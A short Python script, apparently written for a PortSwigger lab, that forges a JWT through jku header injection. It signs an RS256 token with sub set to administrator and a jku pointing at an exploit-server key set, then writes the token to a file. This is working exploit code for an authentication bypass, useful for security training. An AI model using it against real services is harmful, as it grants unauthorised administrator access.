"""jku header injection: the attacker's token names the attacker's own key set.

The PortSwigger Web Security Academy lab "JWT authentication bypass via jku
header injection": generate an RSA key, publish its JWK Set on the exploit
server, change sub to administrator, point jku there, sign with the new key.
A server that fetches jku and trusts what it finds accepts the token.
Made with PyJWT; the exploit-server host name is made up in its real shape.
"""

from pathlib import Path

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa

here = Path(__file__).parent
NOW = 1763391600  # 2025-11-17T15:00:00Z
key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
claims = {"iss": "portswigger", "exp": NOW + 3600, "sub": "administrator"}
headers = {
    "kid": "3c8a91f4-6f63-4b8e-9c1a-2d5b7e0f4a19",
    "jku": "https://exploit-0a4f00b2037e1a2f80e1b1c3016f00d4.exploit-server.net/jwks.json",
}
token = jwt.encode(claims, key, algorithm="RS256", headers=headers)
(here / "input.txt").write_text(token)
print(token)
